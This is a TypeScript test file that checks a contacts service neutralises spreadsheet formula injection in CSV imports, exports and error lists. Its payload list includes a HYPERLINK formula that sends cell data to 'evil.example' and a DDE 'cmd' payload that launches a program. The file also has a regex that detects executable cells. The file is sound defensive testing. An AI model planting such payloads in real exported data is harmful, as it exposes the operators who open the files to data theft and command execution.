import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { csvOf } from '../../console/data/csv.ts';
import { csvLine, inertCell, restoredCell } from '../../shared/runtime/csv-line.ts';
import { CsvReader } from '../../functions/contacts/domain/imports/csv-reader.ts';
import { exportContacts } from '../../functions/contacts/service/export-contacts.ts';
import { attack } from '../support/attack.ts';
import { newCompany, type TestCompany } from '../support/company.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';

/** The name of a stranger's profile becomes a cell at the operator's desk. */
let testApp: TestApp;
beforeAll(async () => {
  testApp = await startTestApp();
});
afterAll(() => testApp.stop());

const formulas = [
  '=HYPERLINK("https://evil.example/?"&B2,"open")',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  "'=1+1",
  "''@x",
  'x;=1+1;y',
  'x;"=1+1"',
  'x; =1+1',
  'x|@SUM(A1), -1',
  ' =1+1',
  '\uff1d1+1',
];
const cellsOf = (csv: string): string[][] => {
  const reader = new CsvReader(',', { offset: 0, line: 1 });
  return [...reader.push(Buffer.from(csv.replace(/^\uFEFF/, ''))), ...reader.end()].map(({ fields }) => fields);
};
/** What spreadsheets of all locales would execute of a text, each by its own separator, some without a look at quotes. */
const executedIn = (text: string): string[] =>
  text.split(/[,;|\t\r\n]/).filter((part) => /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(part));
const made = { in: 'shared/runtime/csv-line.ts', replace: 'isRaw ? field : inertCell(field)', by: 'field' };
const atSeparators = { in: 'shared/runtime/csv-line.ts', replace: '(^|[,;|\\t\\r\\n])', by: '(^)' };

const api = async (company: TestCompany, method: string, path: string, body?: unknown) =>
  (await testApp.call({ method, path: `/api/v1${path}`, token: company.tokens.owner, ...(body === undefined ? {} : { body }) })).body as {
    data: Record<string, unknown>;
  };
/** The file through the import of the API; the job as it ended. */
const imported = async (company: TestCompany, file: string): Promise<Record<string, unknown>> => {
  const size = Buffer.byteLength(file);
  const { data: job } = await api(company, 'POST', '/contacts/imports', { filename: 'people.csv', size });
  const upload = job['upload'] as { url: string; headers?: Record<string, string> };
  expect((await fetch(upload.url, { method: 'PUT', headers: upload.headers ?? {}, body: file })).status).toBe(200);
  await api(company, 'POST', `/contacts/imports/${String(job['id'])}/start`);
  await testApp.drain();
  return (await api(company, 'GET', `/contacts/imports/${String(job['id'])}`)).data;
};
const exported = async (company: TestCompany, isRaw = false): Promise<string> => {
  let text = '';
  for await (const chunk of exportContacts(company.id, { isRaw })) text += chunk.text;
  return text;
};
const phoneOf = (nth: number): string => `4915122220${String(nth).padStart(3, '0')}`;
const people = formulas.map((name, nth) => csvLine([phoneOf(nth), name, 'x'], { isRaw: true })).join('');
const namesOf = async (company: TestCompany): Promise<Map<string, unknown>> => {
  const { data } = await api(company, 'GET', '/contacts?limit=100');
  return new Map((data as unknown as Record<string, unknown>[]).map((each) => [String(each['phone']), each['name']]));
};

describe('cells that a spreadsheet executes', () => {
  attack('are inert in the list of failed rows, and the list can be imported again', [made, atSeparators], async () => {
    const company = await newCompany();
    const failing = formulas.map((name, nth) => csvLine([`${nth}`, name], { isRaw: true })).join('');
    const job = await imported(company, `phone,name\r\n${failing}`);
    const list = await (await fetch(String(job['errors_url']))).text();
    const [, ...rows] = cellsOf(list);
    expect(rows).toHaveLength(formulas.length);
    expect(executedIn(list)).toEqual([]);
    const repaired = rows.map(([, , , name = ''], nth) => csvLine([phoneOf(nth), name], { isRaw: true })).join('');
    await imported(company, `phone,name\r\n${repaired}`);
    const names = await namesOf(company);
    // an import takes one apostrophe off: the file's own too, when it stands before such a character
    for (const [nth, name] of formulas.entries()) expect(names.get(phoneOf(nth))).toBe(restoredCell(name).trim());
  });

  attack('are inert in an export, and an import of the export is the same contacts', [made, atSeparators], async () => {
    const [first, second] = [await newCompany(), await newCompany()];
    await imported(first, `phone,name,city\r\n${people}`);
    const csv = await exported(first);
    expect(executedIn(csv)).toEqual([]);
    await imported(second, csv);
    expect(await namesOf(second)).toEqual(await namesOf(first));
  });

  test('are left as they are by a raw export', async () => {
    const company = await newCompany();
    await imported(company, `phone,name\r\n${csvLine([phoneOf(1), '=1+1'], { isRaw: true })}`);
    expect(executedIn(await exported(company, true))).toEqual(['=1+1']);
  });

  test('no cell is executed, and each is restored exactly', () => {
    const cell = fc.oneof(
      fc.string(),
      fc
        .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '|', ' ', '\uff1d', 'a', '"'))
        .map((each) => each.join('')),
    );
    fc.assert(
      fc.property(cell, (given) => {
        expect(executedIn(inertCell(given))).toEqual([]);
        expect(executedIn(csvLine(['a', given, 'b']))).toEqual([]);
        expect(inertCell(given)).not.toMatch(/^[\t\r\n]/);
        expect(restoredCell(inertCell(given))).toBe(given);
      }),
      { numRuns: 1_000 },
    );
  });

  test('a file of before is restored as it was meant', () => {
    for (const cell of ['=1+1', '\t=1+1', '\rx', "'@x", '-5']) expect(restoredCell(`'${cell}`)).toBe(cell);
  });

  attack(
    'are inert in the files that the console writes, where numbers stay numbers',
    [{ in: 'console/data/csv.ts', replace: "typeof value === 'string' ? inertCell(value) : ", by: '' }, atSeparators],
    () => {
      const columns = [{ name: 'name', value: (name: string) => name }];
      const texts = [...formulas, 'x\t=1+1', 'x\n=1+1', '\n=1+1'];
      expect(executedIn(csvOf(columns, texts))).toEqual([]);
      const [, ...rows] = cellsOf(csvOf(columns, texts));
      expect(rows.map(([name = '']) => restoredCell(name))).toEqual(texts);
      expect(csvOf([{ name: '=n', value: (count: number) => count }], [-2])).toBe("'=n\r\n-2\r\n");
    },
  );
});
